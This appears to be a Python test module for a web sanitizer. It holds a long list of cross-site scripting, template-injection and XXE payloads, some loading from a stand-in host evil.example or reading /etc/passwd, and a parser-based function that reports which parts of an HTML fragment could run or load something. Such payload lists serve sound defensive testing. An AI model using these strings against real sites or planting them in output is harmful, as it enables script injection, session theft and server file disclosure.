"""Texts that try to run as code on a page, and a test of whether any part of some HTML could."""

import re
from html.parser import HTMLParser

_TAGS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script/src=data:,alert(1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x0c>alert(1)</script>",
    "<script>alert(1)",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror\x0a=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    "<img src='x' onerror=\"alert(1)\"",
    '<img """><script>alert(1)</script>">',
    "<IMG SRC=javascript:alert(1)>",
    "<img src=x:alert(1) onerror=eval(src)>",
    "<image src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script xlink:href=data:,alert(1) />",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'>",
    "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>",
    "<math><maction actiontype='statusline#http://x' xlink:href='javascript:alert(1)'>x</maction></math>",
    "<math><mi><mglyph></mi><style></math><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<body background=javascript:alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<object data='data:text/html,<script>alert(1)</script>'>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video src=x onerror=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<isindex action=javascript:alert(1) type=image>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=import href='data:text/html,<script>alert(1)</script>'>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p style=width:expression(alert(1))>x</p>",
    "<div style='-moz-binding:url(//evil.example/x)'>x</div>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    '<a href="javas\x00cript:alert(1)">x</a>'.replace("\x00", ""),
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a onmouseover=alert(1)>x</a>",
    "<b onclick=alert(1)>x</b>",
    "<x onclick=alert(1)>x",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<title><img src=x onerror=alert(1)></title>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "<table background=javascript:alert(1)><td>x</td></table>",
    "<keygen autofocus onfocus=alert(1)>",
    "<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>",
    "<portal src=javascript:alert(1)></portal>",
]
_BREAKOUTS = [
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    'x" autofocus onfocus=alert(1) y="',
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "＜script＞alert(1)＜/script＞",
    "\u2028<script>alert(1)</script>\u2029",
    "\u202e<script>alert(1)</script>\u202c",
    "{{7*7}}",
    "{{ config.items() }}",
    "{% import 'os' as os %}{{ os.popen('id') }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{constructor.constructor('alert(1)')()}}",
    "';alert(1)//",
    "\\';alert(1)//",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
]
_MARKDOWN = [
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](&#x6A&#x61&#x76&#x61script:alert(1))",
    "[x](java\\script:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](<java\tscript:alert(1)>)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox(1))",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](%6A%61vascript:alert(1))",
    "[x](javascript%3Aalert(1))",
    "[x]( javascript:alert(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x]: <javascript:alert(1)> 'y'\n\n[x][]",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "![x](javascript:alert(1))",
    '![x](x"onerror="alert(1))',
    '![x" onerror="alert(1)](x.svg)',
    "![<img src=x onerror=alert(1)>](x.svg)",
    '![x](x.svg "</figcaption><script>alert(1)</script>")',
    "![x](https://evil.example/pixel.gif)",
    '[x](https://e.example "\\" onmouseover=\\"alert(1)")',
    "[<img src=x onerror=alert(1)>](https://e.example)",
    "# <script>alert(1)</script>",
    '## x" onclick="alert(1)',
    "`<script>alert(1)</script>`",
    '```"><script>alert(1)</script>\nx\n```',
    "```html\n</code></pre><script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "> [!NOTE]<script>alert(1)</script>\n> x",
    "> [!NOTE]\n> <script>alert(1)</script>",
    '> [!"><script>alert(1)</script>]\n> x',
    "| <script>alert(1)</script> | a |\n|---|---|\n| <img src=x onerror=alert(1)> | b |",
    "x[^1]\n\n[^1]: <script>alert(1)</script>",
    'x[^"><script>]\n\n[^"><script>]: y',
    "<div\n\n<script>alert(1)</script>",
    "*<b onclick=alert(1)>x</b>*",
    '```check\nid: "<script>alert(1)</script>"\ntype: [\n```',
]
PAYLOADS = [*_TAGS, *_BREAKOUTS, *_MARKDOWN]

# fmt: off
_ACTIVE = frozenset({
    "script", "style", "iframe", "object", "embed", "applet", "form", "input", "button", "select", "textarea", "link",
    "meta", "base", "svg", "math", "template", "noscript", "frame", "frameset", "portal", "audio", "video", "source",
    "marquee",
})
# fmt: on
_ADDRESSES = frozenset(
    {"href", "src", "action", "formaction", "xlink:href", "srcset", "poster", "background", "data"}
)
_SAFE = ("http://", "https://", "mailto:")
_SCHEME = re.compile(r"[a-z][a-z0-9+.-]*:")


class _Finder(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in _ACTIVE:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name in ("style", "srcdoc"):
                self.found.append(f"<{tag} {name}>")
            if name in _ADDRESSES and not is_safe_address(value or ""):
                self.found.append(f"<{tag} {name}={value}>")

    def handle_comment(self, data: str) -> None:
        self.found.append("<!-- -->")

    def handle_decl(self, decl: str) -> None:
        self.found.append(f"<!{decl}>")

    def handle_pi(self, data: str) -> None:
        self.found.append(f"<?{data}>")

    def unknown_decl(self, data: str) -> None:
        self.found.append(f"<![{data}]>")


def is_safe_address(value: str) -> bool:
    """Whether a browser that follows this address stays on http, on mail or on this site's paths."""
    plain = "".join(char for char in value if char > " ").lower()
    if plain.startswith(("//", "/\\", "\\")):
        return False
    return plain.startswith(_SAFE) or not _SCHEME.match(plain)


def active_parts(html: str) -> list[str]:
    """What in a fragment of HTML could run, load or send something; empty when the fragment is inert."""
    finder = _Finder()
    finder.feed(html)
    finder.close()
    return finder.found
